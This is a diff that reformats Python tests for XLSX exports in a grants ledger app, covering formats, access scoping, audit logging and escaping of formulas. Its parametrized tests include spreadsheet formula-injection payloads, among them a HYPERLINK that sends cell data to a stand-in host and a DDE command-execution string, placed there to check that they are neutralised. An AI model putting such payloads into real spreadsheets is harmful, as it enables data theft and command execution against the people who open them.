@@ -18,7 +18,10 @@ from tests.budgets.ledger_helpers import activate, draw, post
 
 def _workbook(response):
     assert response.status_code == 200
-    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert (
+        response["Content-Type"]
+        == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
     return load_workbook(BytesIO(b"".join(response.streaming_content)))
 
 
@@ -30,7 +33,11 @@ def test_awards_workbook_keeps_types_formats_and_totals(client, program):
     assert rows[0][:3] == ("Award number", "Fiscal year", "Task force")
     numbers = {r[0]: r for r in rows[1:-1]}
     first = numbers["15PJDP-25-GK-00001-MECP"]
-    assert first[8] == 200000 and isinstance(first[6], datetime) and first[6].date() == date(2024, 10, 1)
+    assert (
+        first[8] == 200000
+        and isinstance(first[6], datetime)
+        and first[6].date() == date(2024, 10, 1)
+    )
     amount_cell = ws["I2"]
     assert amount_cell.number_format == "#,##0.00" and amount_cell.data_type == "n"
     assert ws["A2"].data_type == "s"
@@ -47,31 +54,58 @@ def test_awards_workbook_keeps_types_formats_and_totals(client, program):
 
 def test_filters_and_scope_are_honoured(client, program):
     client.force_login(program.officer_b)
-    rows = list(_workbook(client.get(reverse("exports:table", args=["awards"]))).active.iter_rows(values_only=True))
+    rows = list(
+        _workbook(client.get(reverse("exports:table", args=["awards"]))).active.iter_rows(
+            values_only=True
+        )
+    )
     assert [r[0] for r in rows[1:-1]] == ["15PJDP-25-GK-00002-MECP"]
     client.force_login(program.pm)
-    rows = list(_workbook(client.get(reverse("exports:table", args=["awards"]), {"award_number": "00001"})).active.iter_rows(values_only=True))
+    rows = list(
+        _workbook(
+            client.get(reverse("exports:table", args=["awards"]), {"award_number": "00001"})
+        ).active.iter_rows(values_only=True)
+    )
     assert [r[0] for r in rows[1:-1]] == ["15PJDP-25-GK-00001-MECP"]
     event = AuditEvent.objects.filter(action="reports.export.downloaded").latest("pk")
     assert event.actor == program.pm and event.data["filters"] == {"award_number": "00001"}
     assert event.data["rows"] == 1 and event.data["filename"].startswith("awards-")
-    assert client.get(reverse("exports:table", args=["ledger", "15PJDP-25-GK-00001-MECP"])).status_code == 200
+    assert (
+        client.get(reverse("exports:table", args=["ledger", "15PJDP-25-GK-00001-MECP"])).status_code
+        == 200
+    )
     client.force_login(program.officer_b)
-    assert client.get(reverse("exports:table", args=["ledger", "15PJDP-25-GK-00001-MECP"])).status_code == 404
+    assert (
+        client.get(reverse("exports:table", args=["ledger", "15PJDP-25-GK-00001-MECP"])).status_code
+        == 404
+    )
     assert client.get(reverse("exports:table", args=["appropriations"])).status_code == 403
 
 
-@pytest.mark.parametrize("memo, stored", [
-    ('=HYPERLINK("http://x.invalid/?"&A1,"Open")', '\'=HYPERLINK("http://x.invalid/?"&A1,"Open")'),
-    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-    ("\t=1+1", "'=1+1"), ("\x00=1", "'=1"), ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("#N/A", "'#N/A"),
-])
+@pytest.mark.parametrize(
+    "memo, stored",
+    [
+        (
+            '=HYPERLINK("http://x.invalid/?"&A1,"Open")',
+            '\'=HYPERLINK("http://x.invalid/?"&A1,"Open")',
+        ),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'=1+1"),
+        ("\x00=1", "'=1"),
+        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+        ("#N/A", "'#N/A"),
+    ],
+)
 def test_user_text_never_becomes_a_formula(client, program, memo, stored):
     activate(program)
     program.award_a.refresh_from_db()
     post(program, "expenditure", "10.00", memo=memo)
     client.force_login(program.officer_a)
-    ws = _workbook(client.get(reverse("exports:table", args=["ledger", program.award_a.award_number])))["Ledger"]
+    ws = _workbook(
+        client.get(reverse("exports:table", args=["ledger", program.award_a.award_number]))
+    )["Ledger"]
     cell = ws["J2"]
     assert (cell.value, cell.data_type) == (stored, "s")
 
@@ -81,12 +115,23 @@ def test_ledger_workbook_ties_out_to_the_balances(client, program):
     program.award_a.refresh_from_db()
     post(program, "expenditure", "100.25")
     entry = post(program, "expenditure", "50.10")
-    ledger.entry_reverse(actor=program.officer_a, entry=entry, reason="twice", idempotency_key=uuid.uuid4(),
-                         effective_date=date(2025, 2, 1))
+    ledger.entry_reverse(
+        actor=program.officer_a,
+        entry=entry,
+        reason="twice",
+        idempotency_key=uuid.uuid4(),
+        effective_date=date(2025, 2, 1),
+    )
     client.force_login(program.auditor)
-    ws = _workbook(client.get(reverse("exports:table", args=["ledger", program.award_a.award_number])))["Ledger"]
+    ws = _workbook(
+        client.get(reverse("exports:table", args=["ledger", program.award_a.award_number]))
+    )["Ledger"]
     amounts = [row[6] for row in ws.iter_rows(min_row=2, values_only=True) if row[0] != "Total"]
-    assert [Decimal(str(a)) for a in amounts] == [Decimal("100.25"), Decimal("50.10"), Decimal("-50.10")]
+    assert [Decimal(str(a)) for a in amounts] == [
+        Decimal("100.25"),
+        Decimal("50.10"),
+        Decimal("-50.10"),
+    ]
     assert list(ws.iter_rows(values_only=True))[-1][8] is None  # running columns are not totalled
 
 
@@ -119,10 +164,13 @@ def test_about_sheet_text_never_becomes_a_formula():
     from reports.exports.xlsx import write_workbook
 
     handle = BytesIO()
-    write_workbook(handle, sheets=[], about={"=Export": "=HYPERLINK(\"http://x.invalid\")", "Blank": ""})
+    write_workbook(
+        handle, sheets=[], about={"=Export": '=HYPERLINK("http://x.invalid")', "Blank": ""}
+    )
     ws = load_workbook(BytesIO(handle.getvalue()))["About"]
     assert [(c.value, c.data_type) for c in ws[1]] == [
-        ("'=Export", "s"), ("'=HYPERLINK(\"http://x.invalid\")", "s"),
+        ("'=Export", "s"),
+        ('\'=HYPERLINK("http://x.invalid")', "s"),
     ]
     assert ws["A2"].value == "Blank" and ws["B2"].value is None
     assert ws["A3"].value == "SHA-256 of the data" and len(ws["B3"].value) == 64
